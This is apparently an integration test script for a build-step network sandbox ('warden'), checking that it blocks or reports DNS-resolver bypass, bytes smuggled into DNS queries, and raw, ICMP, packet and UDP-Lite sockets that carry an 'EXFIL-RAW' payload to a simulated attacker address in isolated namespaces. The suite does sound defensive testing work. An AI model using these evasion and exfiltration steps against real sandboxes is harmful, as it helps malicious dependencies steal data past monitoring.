#!/usr/bin/env bash
# Evasion suite, `warden run` network (issue 13): a step that asks another
# resolver, smuggles bytes in its queries, or makes sockets the address
# hooks do not see. Written as the malicious build dependency would;
# docs/run.md "DNS names" and "Sockets", docs/security.md.
# shellcheck source-path=SCRIPTDIR source=../integration/lib.sh
. "$(dirname "$0")/../integration/lib.sh"
H="$(cd "$(dirname "$0")/../helpers" && pwd)"

# mk_net: $NSA (the step; an attacker resolver on 127.0.0.2), $NSB with
# the step's resolver at $NET.2 (log $LOGS/good) and an attacker's at
# $NET.3 (log $LOGS/evil), both answering every name with their own
# address, and a TCP server on port 8080 of both.
mk_net() {
	NET=10.78.$(( $$ % 200 )); LOGS=$(scratch)
	mk_netns_pair "$NET"
	ip -n "$NSA" addr add 127.0.0.2/8 dev lo 2>/dev/null
	ip netns exec "$NSB" python3 "$H/dns_server.py" "$NET.2" "$LOGS/good" "$NET.2" &
	defer "kill $!"
	ip netns exec "$NSB" python3 "$H/dns_server.py" "$NET.3" "$LOGS/evil" "$NET.3" &
	defer "kill $!"
	ip netns exec "$NSA" python3 "$H/dns_server.py" 127.0.0.2 "$LOGS/evil-lo" 127.0.0.2 &
	defer "kill $!"
	ip netns exec "$NSB" python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8080)); s.listen(64); open(sys.argv[1], "w").close()
while True:
    c, _ = s.accept(); c.close()' "$LOGS/tcp.ready" &
	defer "kill $!"
	wait_file "$LOGS/good.ready"; wait_file "$LOGS/evil.ready"
	wait_file "$LOGS/evil-lo.ready"; wait_file "$LOGS/tcp.ready"
}

# The attacker's step: dig @OTHER (UDP and TCP), DoT, and queries with
# bytes appended after the question to the step's own resolver (UDP and
# TCP: the proxy serves both).
dns_step() {
	cat <<SH
q() { python3 "$H/dns_query.py" "\$@"; }
echo "other=\$(q $NET.3 53 good.test)"
echo "lo=\$(q 127.0.0.2 53 good.test)"
echo "tcp=\$(q $NET.2 53 good.test tcp)"
echo "tcpother=\$(q $NET.3 53 good.test tcp)"
echo "tcpsmuggle=\$(q $NET.2 53 good.test tcp 4556494c42595445)"
echo "dot=\$(q $NET.2 853 good.test tcp)"
echo "smuggle=\$(q $NET.2 53 good.test udp 4556494c42595445)"
nc -z -w 2 $NET.2 8080; echo conn=\$?
SH
}

dns_policy() { # FILE MODE: the attacker's address is even allowed
	write_policy "$1" <<YAML
run:
  mode: $2
  network:
    allow: [good.test, $NET.3/32]
YAML
}

check_dns() { # MODE RC OTHER LO ACTION TCPOTHER
	local s rc
	s=$(scratch)
	mk_net
	dns_policy "$s/p.yaml" "$1"
	dns_step >"$s/step.sh"
	in_net "$WARDEN" run --as-root -p "$s/p.yaml" --report "$s/r.json" \
		--learn "$s/learned.yaml" -- sh "$s/step.sh" >"$s/r.out" 2>"$s/r.err"
	rc=$?
	assert_eq "$rc" "$2" "exit status; $(cat "$s/r.out" "$s/r.err")"
	# never learned: the other resolvers are no destination of the step
	assert_not_contains "$s/learned.yaml" "$NET.3"
	assert_not_contains "$s/learned.yaml" "127.0.0.2"
	assert_contains "$s/learned.yaml" '"good.test"'
	assert_contains "$s/r.out" "other=${3//NET/$NET}"
	assert_contains "$s/r.out" "lo=$4"
	assert_contains "$s/r.out" "smuggle=answer $NET.2"
	# the answers look as if the resolver asked sent them
	assert_contains "$s/r.out" "tcp=answer $NET.2 from $NET.2"
	assert_contains "$s/r.out" "smuggle=answer $NET.2 from $NET.2"
	assert_contains "$s/r.out" "tcpother=$6"
	assert_contains "$s/r.out" "tcpsmuggle=answer $NET.2"
	assert_contains "$s/r.out" "conn=0"
	# what the resolver got is warden's own query: header, the question,
	# nothing after it (12 + 11 + 4 bytes), never the smuggled bytes
	assert_not_contains "$LOGS/good" 4556494c42595445
	[ -s "$LOGS/good" ] || fail "the resolver got nothing"
	awk 'length($0) != 54 { exit 1 }' "$LOGS/good" ||
		fail "a query upstream is not the re-encoded one: $(cat "$LOGS/good")"
	run_violations "$s/r.json" >"$s/v"
	assert_contains "$s/v" "dns-bypass network.dns $5 $NET.3 port 53/udp"
	assert_contains "$s/v" "dns-bypass network.dns $5 127.0.0.2 port 53/udp"
	assert_contains "$s/v" "dns-bypass network.dns $5 $NET.3 port 53/tcp"
	assert_not_contains "$s/v" "$NET.2 port 53/tcp"
	assert_contains "$s/v" "dns-bypass network.dns $5 $NET.2 port 853/tcp"
	assert_contains "$s/r.err" "dns-bypass"
	python3 "$RUN_VALIDATE" "$RUN_SCHEMA" "$s/r.json" || fail "schema"
}

t_dns_only_through_the_proxy_enforce() {
	check_dns enforce 3 "refused EPERM" "refused EPERM" blocked "refused EPERM"
	[ -e "$LOGS/evil" ] && fail "a query reached the attacker's resolver"
	[ -e "$LOGS/evil-lo" ] && fail "a query reached the loopback resolver"
	true
}

t_dns_only_through_the_proxy_audit() {
	check_dns audit 0 "answer NET.3" "answer 127.0.0.2" reported \
		"refused ECONNREFUSED"
}

# ---- sockets the address hooks do not see ----------------------------

# Listeners at $NET.3 for what the step smuggles: UDP 9998 (the raw
# datagram), UDP-Lite 9999; each logs what it got to $LOGS/<port>.
mk_listeners() {
	local port proto
	for port in 9998 9999; do
		proto=17; [ "$port" = 9999 ] && proto=136
		ip netns exec "$NSB" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, int(sys.argv[3]))
s.bind((sys.argv[1], int(sys.argv[2]))); open(sys.argv[4] + ".ready", "w").close()
while True:
    d = s.recv(4096)
    with open(sys.argv[4], "ab") as f: f.write(d + b"\n")' "$NET.3" "$port" "$proto" "$LOGS/$port" &
		defer "kill $!"
		wait_file "$LOGS/$port.ready"
	done
	# ping sockets for every group, in the step's netns only
	ip netns exec "$NSA" sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
}

socket_step() {
	local m
	for m in rawudp icmp ping packet; do
		echo "$HELPERS/raw_sockets $m $NET.3 9998"
	done
	echo "$HELPERS/raw_sockets udplite $NET.3 9999"
}

check_sockets() { # MODE RC OUTCOME ACTION
	local s rc m
	s=$(scratch)
	mk_net
	mk_listeners
	dns_policy "$s/p.yaml" "$1"
	sed -i "s|, $NET.3/32||" "$s/p.yaml"	# nothing at $NET.3 is allowed
	socket_step >"$s/step.sh"
	in_net "$WARDEN" run --as-root -p "$s/p.yaml" --report "$s/r.json" -- \
		sh "$s/step.sh" >"$s/r.out" 2>"$s/r.err"
	rc=$?
	assert_eq "$rc" "$2" "exit status; $(cat "$s/r.out" "$s/r.err")"
	for m in rawudp icmp ping packet udplite; do
		assert_contains "$s/r.out" "$m: $3" "$(cat "$s/r.out")"
	done
	run_violations "$s/r.json" >"$s/v"
	assert_contains "$s/v" "socket network.sockets $4 raw (inet, type 3, protocol 17)"
	assert_contains "$s/v" "socket network.sockets $4 raw (inet, type 3, protocol 1)"
	assert_contains "$s/v" "socket network.sockets $4 icmp (inet, type 2, protocol 1)"
	assert_contains "$s/v" "socket network.sockets $4 packet (packet, type 3, protocol 768)"
	assert_contains "$s/v" "socket network.sockets $4 udplite (inet, type 2, protocol 136)"
	assert_contains "$s/r.err" "socket raw (inet, type 3, protocol 17)"
	python3 "$RUN_VALIDATE" "$RUN_SCHEMA" "$s/r.json" || fail "schema"
}

t_sockets_refused_enforce() {
	check_sockets enforce 3 "socket refused: EPERM" blocked
	[ -e "$LOGS/9998" ] && fail "the raw datagram arrived: $(cat "$LOGS/9998")"
	[ -e "$LOGS/9999" ] && fail "the UDP-Lite datagram arrived"
	true
}

# audit: each gets through (so the enforce test is not vacuous) and is named
t_sockets_reported_audit() {
	check_sockets audit 0 sent reported
	wait_file "$LOGS/9998"; wait_file "$LOGS/9999"
	assert_contains "$LOGS/9998" EXFIL-RAW
	assert_contains "$LOGS/9999" EXFIL-RAW
}

# a policy that allows a kind lets it be made, and reports nothing for it
t_sockets_allowed_by_policy() {
	local s rc
	s=$(scratch)
	mk_net
	printf 'run:\n  mode: enforce\n  network:\n    allow: [%s]\n    sockets: [icmp, udplite]\n' \
		"$NET.3" >"$s/p.yaml"
	ip netns exec "$NSA" sysctl -q -w net.ipv4.ping_group_range="0 2147483647"
	in_net "$WARDEN" run --as-root -p "$s/p.yaml" --report "$s/r.json" -- sh -c \
		"$HELPERS/raw_sockets ping $NET.3 0; $HELPERS/raw_sockets udplite $NET.3 9999; $HELPERS/raw_sockets rawudp $NET.3 9998" \
		>"$s/r.out" 2>"$s/r.err"
	rc=$?
	assert_eq "$rc" 3 "rawudp is still refused; $(cat "$s/r.out" "$s/r.err")"
	assert_contains "$s/r.out" "ping: sent"
	assert_contains "$s/r.out" "udplite: sent"
	assert_contains "$s/r.out" "rawudp: socket refused: EPERM"
	run_violations "$s/r.json" >"$s/v"
	assert_not_contains "$s/v" "icmp"
	assert_not_contains "$s/v" "udplite"
}

run_tests
